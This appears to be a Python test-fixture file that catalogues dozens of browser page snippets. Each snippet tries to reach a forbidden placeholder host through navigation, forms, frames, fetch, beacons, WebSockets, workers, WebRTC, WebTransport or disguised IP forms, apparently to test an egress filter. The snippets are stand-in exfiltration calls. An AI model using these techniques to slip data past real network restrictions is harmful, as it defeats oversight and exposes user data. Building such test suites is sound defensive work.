"""Ways out that pages have, a small page each. The page is on the allowed host; whatever it tries leads to the forbidden one.

In the texts: EVIL is an address of the forbidden host that carries the vector's tag, EVILWS the same for sockets, EVILTLS by https,
HOST:PORT of it EVILHOST, AWAY(code) a path of the allowed host that redirects there, TAG the tag, SINK the forbidden host's port, CDN
an address of the host that may only be loaded from.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Literal, TypeAlias

Verdict: TypeAlias = Literal["denied", "asked", "allowed"]
BUTTON = "position:absolute;left:0;top:0;width:300px;height:100px;display:block;background:#ddd"
SPOT = (50, 40)
"""Where a vector that needs a person's click has what is to be clicked, in pixels."""


@dataclass(frozen=True)
class Vector:
    """One way out. `number` is the class of case that it belongs to."""

    number: int
    name: str
    html: str
    click: bool = False
    slow: bool = False
    """It needs more than half a second."""
    files: dict[str, tuple[str, str]] = field(default_factory=dict)
    """More paths of the allowed host (below `/TAG/`): kind of content, body."""
    headers: dict[str, str] = field(default_factory=dict)
    verdict: Verdict = "denied"


def script(code: str) -> str:
    return f"<script>{code}</script>"


def button(code: str) -> str:
    return f'<button style="{BUTTON}" onclick="{code}">go</button>'


def _worker(code: str, kind: str = "Worker") -> tuple[str, dict[str, tuple[str, str]]]:
    return script(f"new {kind}('/TAG/w.js')"), {"w.js": ("text/javascript", code)}


_W_FETCH, _W_SOCKET = _worker("fetch('EVIL')"), _worker("new WebSocket('EVILWS')")
_W_IMPORT = _worker("try{importScripts('EVIL')}catch(e){}")
_W_TRANSPORT = _worker("try{new WebTransport('EVILTLS')}catch(e){}")
_S_FETCH, _S_SOCKET = _worker("fetch('EVIL')", "SharedWorker"), _worker("new WebSocket('EVILWS')", "SharedWorker")
_STUN = "(async(R)=>{const c=new R({iceServers:[ICE]});c.createDataChannel('x');await c.setLocalDescription(await c.createOffer())})"
STUN_BY_UDP = _STUN.replace("ICE", "{urls:'stun:127.0.0.1:SINK'}")
_BY_UDP, _BY_TCP = "{urls:'stun:127.0.0.1:SINK'}", "{urls:'turn:127.0.0.1:SINK?transport=tcp',username:'u',credential:'c'}"
_REGISTER = script(
    "navigator.serviceWorker.register('/TAG/sw.js',{scope:'/TAG/'}).then(r=>navigator.serviceWorker.ready).then(()=>{AFTER})"
)

NAVIGATION = (
    Vector(6, "location =", script("location='EVIL'")),
    Vector(6, "location.replace", script("location.replace('EVIL')")),
    Vector(5, "meta refresh", '<meta http-equiv=refresh content="0;url=EVIL">'),
    Vector(5, "Refresh header", "wait", headers={"Refresh": "0;url=EVIL"}),
    Vector(2, "link", f'<a style="{BUTTON}" href="EVIL">go</a>', click=True),
    Vector(2, "link into a new tab", f'<a style="{BUTTON}" target=_blank href="EVIL">go</a>', click=True),
    Vector(2, "redirect 301", script("location='AWAY(301)'")),
    Vector(2, "redirect 302", script("location='AWAY(302)'")),
    Vector(2, "redirect 303", script("location='AWAY(303)'")),
    Vector(
        3, "redirect 307 of a form", "<form id=f method=post action='AWAY(307)'><input name=a value=body></form>" + script("f.submit()")
    ),
    Vector(
        3, "redirect 308 of a form", "<form id=f method=post action='AWAY(308)'><input name=a value=body></form>" + script("f.submit()")
    ),
    Vector(8, "popup", button("window.open('EVIL')"), click=True),
    Vector(8, "popup without opener", button("window.open('EVIL','_blank','noopener')"), click=True),
    Vector(8, "popup sent elsewhere later", button("var w=window.open('/ok');setTimeout(()=>{w.location='EVIL'},200)"), click=True),
    Vector(7, "picture in a blank popup", button("var w=window.open('');w.document.body.innerHTML='<img src=EVIL>'"), click=True),
    Vector(9, "form GET", "<form id=f action='EVIL'><input name=a value=b></form>" + script("f.submit()")),
    Vector(9, "form POST", "<form id=f method=post action='EVIL'><input name=a value=b></form>" + script("f.submit()")),
    Vector(9, "formaction", f"<form action=/ok><button style='{BUTTON}' formaction='EVIL'>go</button></form>", click=True),
    Vector(9, "form into a new tab", f"<form target=_blank action='EVIL'><button style='{BUTTON}'>go</button></form>", click=True),
    Vector(9, "form inside srcdoc", "<iframe srcdoc=\"<form id=f action='EVIL'></form><script>f.submit()</script>\"></iframe>"),
    Vector(
        10, "frame that sets top.location", "<iframe src='/TAG/in'></iframe>", files={"in": ("text/html", script("top.location='EVIL'"))}
    ),
    Vector(12, "data: frame", "<iframe src=\"data:text/html,<img src='EVIL'>\"></iframe>"),
    Vector(12, "data: frame that refreshes", "<iframe src=\"data:text/html,<meta http-equiv=refresh content='0;url=EVIL'>\"></iframe>"),
    Vector(
        12, "blob: frame", "<iframe id=i></iframe>" + script("i.src=URL.createObjectURL(new Blob(['<img src=EVIL>'],{type:'text/html'}))")
    ),
    Vector(12, "srcdoc frame", '<iframe srcdoc="<img src=EVIL>"></iframe>'),
    Vector(
        12,
        "blob: popup",
        button("window.open(window.URL.createObjectURL(new Blob(['<img src=EVIL>'],{type:'text/html'})))"),
        click=True,
    ),
    Vector(2, "frame", "<iframe src='EVIL'></iframe>"),
    Vector(4, "frame by a redirect", "<iframe src='AWAY(302)'></iframe>"),
    Vector(34, "object", "<object data='EVIL' type='text/html'></object>"),
    Vector(34, "embed", "<embed src='EVIL' type='text/html'>"),
    Vector(36, "document of the loading list", script("location='CDN/doc/TAG'")),
    Vector(36, "frame of the loading list", "<iframe src='CDN/doc/TAG'></iframe>"),
    Vector(36, "object of the loading list", "<object data='CDN/doc/TAG' type='text/html'></object>"),
    Vector(36, "redirect to the loading list", script("location='/r/302?u='+encodeURIComponent('CDN/doc/TAG')")),
    Vector(36, "popup of the loading list", button("window.open('CDN/doc/TAG')"), click=True),
    Vector(36, "form of the loading list", "<form id=f method=post action='CDN/doc/TAG'></form>" + script("f.submit()")),
    Vector(22, "the allowed host on another port", script("location='http://shop.localhost:SINK/TAG/'")),
    Vector(24, "a number in place of the name", script("location='http://127.0.0.1:SINK/TAG/'")),
    Vector(24, "a number written otherwise", script("location='http://0x7f.1:SINK/TAG/'")),
)

LOADING = (
    Vector(34, "img", "<img src='EVIL'>"),
    Vector(4, "img by a redirect", "<img src='AWAY(302)'>"),
    Vector(34, "srcset", "<img srcset='EVIL 1x, EVIL 2x'>"),
    Vector(34, "svg image", "<svg><image href='EVIL'/></svg>"),
    Vector(34, "background in CSS", "<div style=\"width:9px;height:9px;background:url('EVIL')\"></div>"),
    Vector(34, "@import", "<style>@import url('EVIL');</style>"),
    Vector(34, "stylesheet", "<link rel=stylesheet href='EVIL'>"),
    Vector(34, "font", "<style>@font-face{font-family:q;src:url('EVIL')}p{font-family:q}</style><p>x"),
    Vector(34, "video", "<video src='EVIL' preload=auto></video>"),
    Vector(34, "audio", "<audio src='EVIL' preload=auto></audio>"),
    Vector(34, "poster", "<video poster='EVIL'></video>"),
    Vector(34, "track", "<video crossorigin src=/ok><track default kind=captions src='EVIL'></video>"),
    Vector(34, "picture button", "<input type=image src='EVIL'>"),
    Vector(34, "favicon", "<link rel=icon href='EVIL'>", slow=True),
    Vector(34, "manifest", "<link rel=manifest href='EVIL'>", slow=True),
    Vector(34, "script", "<script src='EVIL'></script>"),
    Vector(4, "script by a redirect", "<script src='AWAY(302)'></script>"),
    Vector(34, "import()", script("import('EVIL').catch(()=>0)")),
    Vector(34, "prefetch", "<link rel=prefetch href='EVIL'>"),
    Vector(34, "preload", "<link rel=preload as=image href='EVIL'>"),
    Vector(34, "preconnect", "<link rel=preconnect href='EVIL'><link rel=dns-prefetch href='EVIL'>", slow=True),
    Vector(
        34,
        "prerender by a rule",
        '<script type=speculationrules>{"prerender":[{"urls":["EVIL"],"eagerness":"immediate"}],'
        '"prefetch":[{"urls":["EVIL"],"eagerness":"immediate"}]}</script>',
        slow=True,
    ),
    Vector(2, "fetch", script("fetch('EVIL').catch(()=>0)")),
    Vector(4, "fetch by a redirect", script("fetch('AWAY(302)').catch(()=>0)")),
    Vector(4, "POST by a redirect", script("fetch('AWAY(307)',{method:'POST',body:'b',mode:'no-cors'}).catch(()=>0)")),
    Vector(29, "POST", script("fetch('EVIL',{method:'POST',mode:'no-cors',body:'b'}).catch(()=>0)")),
    Vector(29, "XMLHttpRequest", script("var x=new XMLHttpRequest();x.open('GET','EVIL');x.send()")),
    Vector(29, "beacon", script("navigator.sendBeacon('EVIL','b')")),
    Vector(29, "ping", f"<a style='{BUTTON}' ping='EVIL' href='#x'>go</a>", click=True),
    Vector(29, "EventSource", script("new EventSource('EVIL')")),
    Vector(
        29,
        "report of a policy",
        "<img src='/x.png'>",
        slow=True,
        headers={"Content-Security-Policy": "img-src 'none'; report-uri EVIL"},
    ),
    Vector(30, "keepalive at the end of a page", script("onpagehide=()=>fetch('EVIL',{keepalive:true,mode:'no-cors'});location='/ok'")),
    Vector(30, "beacon at the end of a page", script("onpagehide=()=>navigator.sendBeacon('EVIL','b');location='/ok'")),
    Vector(30, "fetchLater", script("self.fetchLater&&fetchLater('EVIL',{activateAfter:0})")),
    Vector(28, "WebSocket", script("new WebSocket('EVILWS')")),
    Vector(28, "WebSocket in a frame", "<iframe srcdoc=\"<script>new WebSocket('EVILWS')</script>\"></iframe>"),
    Vector(28, "WebSocket in a worker", _W_SOCKET[0], files=_W_SOCKET[1]),
    Vector(28, "WebSocket in a shared worker", _S_SOCKET[0], files=_S_SOCKET[1]),
    Vector(28, "WebSocket by TLS", script("new WebSocket('wss://EVILHOST/')")),
    Vector(34, "img by TLS", "<img src='EVILTLS'>"),
    Vector(34, "worker that fetches", _W_FETCH[0], files=_W_FETCH[1]),
    Vector(34, "worker that imports", _W_IMPORT[0], files=_W_IMPORT[1]),
    Vector(34, "worker out of a blob", script("new Worker(URL.createObjectURL(new Blob([`fetch('EVIL')`])))")),
    Vector(34, "shared worker that fetches", _S_FETCH[0], files=_S_FETCH[1]),
    Vector(
        31,
        "service worker that fetches",
        _REGISTER.replace("AFTER", ""),
        slow=True,
        files={"sw.js": ("text/javascript", "oninstall=e=>e.waitUntil(fetch('EVIL'))")},
    ),
    Vector(
        31,
        "service worker that answers",
        _REGISTER.replace("AFTER", "document.body.append(Object.assign(new Image(),{src:'/TAG/x.png'}))"),
        slow=True,
        files={"sw.js": ("text/javascript", "onactivate=e=>e.waitUntil(clients.claim());onfetch=e=>e.respondWith(fetch('EVIL'))")},
    ),
    Vector(32, "STUN", script(_STUN.replace("ICE", _BY_UDP) + "(RTCPeerConnection)"), slow=True),
    Vector(32, "TURN by TCP", script(_STUN.replace("ICE", _BY_TCP) + "(RTCPeerConnection)"), slow=True),
    Vector(
        32,
        "STUN from a frame of the same tick",
        "<body>"
        + script("var i=document.createElement('iframe');document.body.append(i);" + _STUN.replace("ICE", _BY_UDP))
        + script(_STUN.replace("ICE", _BY_UDP) + "(i.contentWindow.RTCPeerConnection)"),
        slow=True,
    ),
    Vector(
        32,
        "STUN from a popup of the same tick",
        button("var w=window.open('');" + _STUN.replace("ICE", _BY_UDP) + "(w.RTCPeerConnection)"),
        click=True,
        slow=True,
    ),
    Vector(33, "WebTransport", script("new WebTransport('EVILTLS')"), slow=True),
    Vector(33, "WebTransport in a worker", _W_TRANSPORT[0], slow=True, files=_W_TRANSPORT[1]),
    Vector(37, "download", f"<a style='{BUTTON}' download href='EVIL'>go</a>", click=True),
    Vector(37, "download by a redirect", f"<a style='{BUTTON}' download href='AWAY(302)'>go</a>", click=True),
    Vector(22, "picture of the allowed host on another port", "<img src='http://shop.localhost:SINK/TAG/'>"),
    Vector(24, "picture by number", "<img src='http://127.0.0.1:SINK/TAG/'><img src='http://2130706433:SINK/TAG/'>"),
)
